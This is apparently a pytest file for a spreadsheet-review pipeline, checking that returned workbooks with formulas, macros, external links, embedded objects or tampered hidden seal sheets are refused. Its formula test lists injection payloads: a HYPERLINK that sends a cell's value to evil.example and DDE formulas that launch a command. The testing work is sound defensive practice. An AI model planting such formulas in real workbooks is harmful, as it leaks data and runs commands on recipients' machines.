"""What a workbook may not bring: formulas, macros, links, other customers' seals, entries that we did not write."""

from pathlib import Path

import pytest

from aformity_pipelines.review.workbook.grid import table_of
from aformity_pipelines.review.workbook.remarks import Weight
from aformity_pipelines.review.workbook.returned import answered, match
from aformity_pipelines.review.workbook.seal import Sealer
from aformity_pipelines.review.workbook.sealed import NotOurs, origin_of
from tests.builders.books import SEALER, block, book, grids, written
from tests.builders.reviewer import filled, opened, parts_changed

HANNA = "Hanna Vogt"


@pytest.fixture
def sent(tmp_path: Path) -> Path:
    return written(book(block(1, "a@", "b@")), tmp_path / "book.xlsx")


def origin(path: Path, sealer: Sealer = SEALER, slug: str = "tiny", wave: str | None = None) -> object:
    return origin_of(
        table_of(grids(path, path.parent / "cells").get("_seals", {})), sealer, slug=slug, wave=wave
    )


@pytest.mark.parametrize(
    "formula",
    ['HYPERLINK("http://evil.example?"&F3,"ok")', 'DDE("cmd";"/c calc";"x")', "cmd|'/c calc'!A0", "H2"],
)
@pytest.mark.parametrize("cell", ["H3", "J3", "F3"])
def test_a_formula_is_refused_whatever_value_stands_beside_it(sent: Path, formula: str, cell: str) -> None:
    filled(sent, HANNA, {"H3": "Leave out", "J3": "Old."})
    filled(sent, HANNA, {cell: formula}, formula=True)

    sheets = grids(sent, sent.parent / "cells")
    returned = match(sheets, origin_of(table_of(sheets["_seals"]), SEALER, slug="tiny"), SEALER)

    assert (f"{HANNA}!{cell}", Weight.REFUSES, "holds a formula; an answer is what a person wrote") in [
        (each.at, each.weight, each.says) for each in returned.remarks
    ]
    assert list(answered(returned)) == []


@pytest.mark.parametrize(
    ("part", "words"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/externalLinks/externalLink1.xml", "links to other files"),
        ("xl/embeddings/oleObject1.bin", "embedded objects"),
        ("xl/connections.xml", "connections to other places"),
    ],
)
def test_what_no_answer_needs_is_refused(sent: Path, part: str, words: str) -> None:
    parts_changed(sent, lambda _, content: content, {part: b"<x/>"})

    with pytest.raises(AssertionError, match=words):
        origin(sent)


def test_a_file_that_is_no_workbook_is_refused(sent: Path) -> None:
    sent.write_text("Row,Answer\np1,Leave out\n")

    with pytest.raises(AssertionError, match=r"is no \.xlsx workbook"):
        origin(sent)


def test_a_workbook_of_another_customer_is_refused(sent: Path) -> None:
    with pytest.raises(NotOurs, match="made for 'tiny', not for 'acme'"):
        origin(sent, slug="acme")


def test_a_workbook_under_another_key_is_refused(sent: Path) -> None:
    with pytest.raises(NotOurs, match="not under this customer's seal"):
        origin(sent, Sealer(key=bytes(32)))


def test_a_workbook_of_another_wave_is_refused(sent: Path) -> None:
    with pytest.raises(NotOurs, match="made for wave_1, not for wave_2"):
        origin(sent, wave="wave_2")


def test_a_workbook_without_its_hidden_sheet_is_refused(sent: Path) -> None:
    with opened(sent) as found:
        del found["_seals"]

    with pytest.raises(NotOurs, match="hidden sheet is missing"):
        origin(sent)


@pytest.mark.parametrize("row", range(2, 11))
def test_what_it_says_of_itself_cannot_be_changed(sent: Path, row: int) -> None:
    with opened(sent) as found:
        found["_seals"].cell(row=row, column=2).value += "0"

    with pytest.raises(NotOurs):
        origin(sent)


@pytest.mark.parametrize("column", range(1, 10))
def test_no_cell_of_a_sealed_entry_can_be_changed(sent: Path, column: int) -> None:
    with opened(sent) as found:
        cell = found["_seals"].cell(row=12, column=column)
        cell.value = f"{cell.value or ''}0"

    with pytest.raises(NotOurs, match="1 entries of its hidden sheet were changed, for example row 12"):
        origin(sent)


def test_an_entry_of_another_workbook_of_ours_is_refused(sent: Path, tmp_path: Path) -> None:
    other = written(book(block(1, "a@", "b@", "z@")), tmp_path / "other.xlsx")
    with opened(other) as theirs, opened(sent) as found:
        for column in range(1, 10):
            found["_seals"].cell(row=16, column=column).value = (
                theirs["_seals"].cell(row=14, column=column).value
            )

    with pytest.raises(NotOurs, match="1 entries"):
        origin(sent)


def test_a_dropped_entry_is_refused(sent: Path) -> None:
    with opened(sent) as found:
        found["_seals"].delete_rows(13)

    with pytest.raises(NotOurs, match="1 are gone"):
        origin(sent)


def test_without_seals_a_changed_digest_would_pass(sent: Path) -> None:
    """The naive reader believes the hidden cells: the row would be decided about values that nobody was shown."""
    with opened(sent) as found:
        found["_seals"].cell(row=13, column=6).value = "f" * 64

    naive = table_of(grids(sent, sent.parent / "cells")["_seals"])[12][5]

    assert naive == "f" * 64
    with pytest.raises(NotOurs):
        origin(sent)
